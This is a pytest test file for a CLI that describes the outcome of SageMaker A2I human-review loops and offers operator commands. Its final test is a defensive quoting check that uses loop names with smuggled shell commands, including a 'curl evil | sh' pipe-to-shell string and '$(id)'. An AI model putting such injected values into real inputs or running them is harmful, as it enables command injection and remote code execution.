"""Tests of a loop's story: what happened to it, and what the operator can do."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given

from lambdas.loops.ledger import now
from lambdas.loops.loop import Loop
from lambdas.loops.rows import UnreadableRow
from tests.unit.odd_items import odd_items
from workflow.cli.shapes import LoopStory
from workflow.cli.show_loops import show_listing, show_story
from workflow.operations.story import A2iLoop, Execution, Processing, Story, age, loop_story

FLOW = "arn:aws:sagemaker:us-east-1:111122223333:flow-definition/triage"
CREATED = datetime(2026, 3, 4, 5, 6, 7, 890_999, tzinfo=UTC)
CLAIM = "2026-03-04T05:06:07.890Z Failed"


NOW = "now"
"""The time of a row that was written during the test: tests are collected minutes before they run."""


def row(**more: Any) -> Loop:
    return Loop(human_loop_name="loop-1", flow_definition_arn=FLOW, **more)


def written(loop: Loop) -> Loop:
    return loop.model_copy(update={"updated_at": now()}) if loop.updated_at == NOW else loop


def held(state: str, execution: str = "arn:e") -> dict[str, dict[str, Any]]:
    return {CLAIM: {"state": state, "execution": execution, "at": "2026-03-04T06:00:00.000Z"}}


def assert_offers(story: Story, commands: list[str]) -> None:
    assert len(story.next) == len(commands)
    for step, command in zip(story.next, commands, strict=True):
        assert step.command.startswith(f"python deploy.py loops {command} --stage dev")
        assert step.action == (None if command.startswith(("graph", "logs")) else command.split()[0])


OUTCOMES = [
    (row(status="Completed", outcome="stored"), "The review is stored.", []),
    (
        row(status="Failed", outcome="escalated", reason="No attempts are left.", input_location="s3://b/i"),
        "Needs action: No attempts are left.",
        ["restart loop-1", "close loop-1"],
    ),
    # A loop without a stored input cannot be restarted, so that is not offered.
    (row(status="Failed", outcome="escalated", reason="x"), "Needs action: x", ["close loop-1"]),
    (
        row(status="Completed", outcome="failed", reason="OutputMissing: x"),
        "Needs action: the workflow could not finish processing it: OutputMissing: x",
        ["redrive loop-1", "close loop-1", "graph loop-1", "logs loop-1"],
    ),
    (
        row(status="Failed", outcome="restarted", next_loop_name="loop-1-attempt-2", reason="r"),
        "Restarted as loop-1-attempt-2: r",
        [],
    ),
    (row(status="Stopped", outcome="notified"), "Stopped. A notification was sent.", []),
    (
        row(status="Stopped", outcome="notified", review_location="s3://b/r"),
        "Stopped. A notification was sent. The answers given before that are stored.",
        [],
    ),
    (
        row(status="Stopped", outcome="notified", input_location="s3://b/i"),
        "Stopped. A notification was sent.",
        ["restart loop-1"],
    ),
    (
        row(status="Failed", outcome="closed", closed_by="me", closed_at="then", note="why"),
        "Closed by me at then: why",
        [],
    ),
    (row(status="Starting", updated_at="2026-01-01T00:00:00.000Z"), "Still starting.", ["reconcile"]),
    (row(status="Starting", updated_at=NOW), "Still starting.", []),
    # Nobody writes such a time.
    (row(status="Starting", updated_at="2999-01-01T00:00:00.000Z"), "Still starting.", ["reconcile"]),
    (row(status="NotNeeded"), "No human review was needed.", []),
    (row(status="NotNeeded", reason="The confidence is high."), "The confidence is high.", []),
    (row(status="Refused", reason="no such flow"), "The caller received the error: no such flow", []),
    (row(status="Refused"), "Not started. The caller received the error.", []),
    (row(status="Failed", claims=held("working")), "Ended as Failed. The workflow is processing it.", []),
    (
        row(status="Archived", outcome="processing", claims=held("working")),
        "Ended as Archived. The workflow is processing it.",
        [],
    ),
    (row(status="Deleting"), "The status is Deleting.", []),
]


@pytest.mark.parametrize(
    ("loop", "outcome", "commands"), OUTCOMES, ids=lambda value: getattr(value, "status", None)
)
def test_story_describes_outcome_and_offers_commands(loop: Loop, outcome: str, commands: list[str]) -> None:
    story = loop_story(written(loop), stage="dev", executions=[Processing(Execution("arn:e", "RUNNING"))])

    assert outcome in story.outcome
    assert_offers(story, commands)


@pytest.mark.parametrize(
    ("loop", "status", "outcome", "commands"),
    [
        (row(status="InProgress"), "InProgress", "Waiting for workers to review it.", ["stop loop-1"]),
        (
            row(status="InProgress"),
            "Completed",
            "The workflow has not received the status change yet.",
            ["reconcile"],
        ),
        (row(status="InProgress"), "Stopping", "Stopping in A2I.", []),
        (row(), "InProgress", "Waiting for workers to review it.", ["stop loop-1"]),
        (row(status="InProgress"), "GONE", "A2I no longer has the loop", ["reconcile"]),
        (row(status="InProgress", updated_at=NOW), "GONE", "A2I does not have it yet.", []),
    ],
)
def test_story_includes_what_only_a2i_knows(
    loop: Loop, status: str, outcome: str, commands: list[str]
) -> None:
    story = loop_story(written(loop), stage="dev", view=A2iLoop(status, CREATED, FLOW))

    assert outcome in story.outcome
    assert_offers(story, commands)


@pytest.mark.parametrize("outcome", [None, "processing"])
@pytest.mark.parametrize("status", ["FAILED", "ABORTED", "TIMED_OUT", "GONE", "SUCCEEDED"])
def test_abandoned_claim_needs_action(status: str, outcome: str | None) -> None:
    execution = Execution("arn:e", status, cause="It was stopped by hand.")
    loop = row(status="Failed", outcome=outcome, claims=held("working"))
    story = loop_story(loop, stage="dev", executions=[Processing(execution)])

    assert f"ended as {status} without releasing the claim. It was stopped by hand." in story.outcome
    assert [step.command.split()[3] for step in story.next] == ["redrive", "close", "graph", "logs"]


def test_claim_of_execution_that_is_just_ending_needs_no_action() -> None:
    # The execution recorded the outcome after the row was read.
    loop = row(status="Failed", outcome="processing", claims=held("working"), updated_at=now())
    story = loop_story(loop, stage="dev", executions=[Processing(Execution("arn:e", "SUCCEEDED"))])
    assert (story.outcome, story.next) == ("Ended as Failed. The workflow is processing it.", [])


def test_restarted_loop_refers_to_last_attempt() -> None:
    after = [Loop(human_loop_name=name) for name in ("b", "c")]
    story = loop_story(row(status="Failed", outcome="restarted"), stage="dev", after=after)

    assert [loop.human_loop_name for loop in story.lineage] == ["loop-1", "b", "c"]
    assert [(step.command, step.action) for step in story.next] == [
        ("python deploy.py loops show c --stage dev", None)
    ]


@pytest.mark.parametrize(
    ("loop", "started"),
    [
        (row(), "not through Afterloop"),
        (row(input_location="s3://b/i", task_type="custom"), "through Afterloop, as a custom task"),
        (
            row(input_location="s3://b/i", task_type="custom", max_attempts=3),
            "through Afterloop, as a custom task: attempt 1 of at most 3",
        ),
        (
            row(input_location="s3://b/i", task_type="custom", attempt=2, previous_loop_name="loop-0"),
            "through Afterloop, as a custom task, as a restart of loop-0: attempt 2",
        ),
    ],
)
def test_story_says_how_the_loop_was_started(loop: Loop, started: str) -> None:
    assert loop_story(loop, stage="dev").started == started


@pytest.mark.parametrize(
    ("review", "figures"),
    [
        ({"answers": 1, "fields": 1, "overruled": False}, "1 answer, 1 field: the model was not overruled"),
        (
            {"answers": 3, "fields": 6, "changed": 2, "added": 0, "removed": 1, "unresolved": 1}
            | {"agreement": 0.667, "overruled": True},
            "3 answers, 6 fields, 2 changed, 1 removed, 1 without a majority, agreement 67%: the model was overruled",
        ),
        ({"answers": 0}, "0 answers, 0 fields"),
    ],
)  # fmt: skip
def test_story_has_figures_of_the_review(review: dict[str, Any], figures: str) -> None:
    loop = row(status="Completed", outcome="stored", review=review)
    assert loop_story(loop, stage="dev").review == figures


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(0, "0 s"), (59, "59 s"), (60, "1 min"), (3600, "60 min"), (7200, "2 h"), (90_000, "25 h"), (200_000, "2 d")],
)  # fmt: skip
def test_age_has_one_unit(seconds: int, text: str) -> None:
    assert age(CREATED, until=CREATED + timedelta(seconds=seconds)) == text


@pytest.mark.parametrize("moment", [None, "", "soon"])
def test_age_of_unknown_moment_is_empty(moment: str | None) -> None:
    assert age(moment) == ""


@given(item=odd_items())
def test_any_row_that_can_be_read_has_a_story(item: dict[str, Any]) -> None:
    try:
        loop = Loop.of(item)
    except UnreadableRow:
        return
    story = loop_story(loop, stage="dev")
    assert story.outcome
    assert LoopStory.of(story).model_dump_json()
    show_story(story)
    show_listing([loop])


def test_names_in_commands_are_one_word_for_a_shell() -> None:
    loop = Loop(human_loop_name="a'; curl evil | sh\x1b", status="Failed", outcome="escalated")
    last = Loop(human_loop_name="$(id)", status="Failed")
    commands = [step.command for step in loop_story(loop, stage="dev").next]
    assert all(r" $'a\'; curl evil | sh\x1B' --stage dev" in command for command in commands)
    assert commands
    assert loop_story(loop, stage="dev", after=[last]).next[0].command.endswith(" show '$(id)' --stage dev")
